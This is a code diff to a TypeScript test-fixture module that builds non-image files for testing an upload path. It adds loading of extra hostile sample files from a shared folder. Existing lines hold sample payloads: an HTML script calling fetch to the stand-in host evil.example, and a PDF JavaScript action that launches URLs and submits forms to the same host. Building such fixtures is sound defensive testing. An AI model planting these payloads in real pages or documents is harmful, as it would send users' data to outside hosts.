@@ -1,5 +1,8 @@
 // Small files that are no photographs, made here: a PDF of several pages, one that tries to run
 // something, texts, a sound, a file of no known kind, and pages of markup that must stay text.
+import { existsSync, readFileSync } from 'node:fs'
+import { basename } from 'node:path'
+import { fileURLToPath } from 'node:url'
 import type { PickedFile } from './photos.ts'
 
 const file = (name: string, mimeType: string, bytes: Buffer | string): PickedFile => ({
@@ -91,7 +94,14 @@ export const elsewhere = 'evil.example'
 const script = `document.title='hacked';fetch('https://${elsewhere}/x')`
 const action = `/S /JavaScript /JS (app.launchURL\\('https://${elsewhere}/pdf'\\); this.submitForm\\('https://${elsewhere}/f'\\))`
 
+/** From beside the repository, when it is there. */
+const shared = fileURLToPath(new URL('../../../shared/media/', import.meta.url))
+const realHostile = ['hostile/html-named.jpg', 'hostile/zip-named.jpg', 'formats/boats-hostile.svg']
+  .filter((path) => existsSync(shared + path))
+  .map((path) => file(basename(path), '', readFileSync(shared + path)))
+
 export const hostile: readonly PickedFile[] = [
+  ...realHostile,
   file('page.html', 'text/html', `<!doctype html><script>${script}</script><h1>A page</h1>`),
   file(
     'drawing.svg',
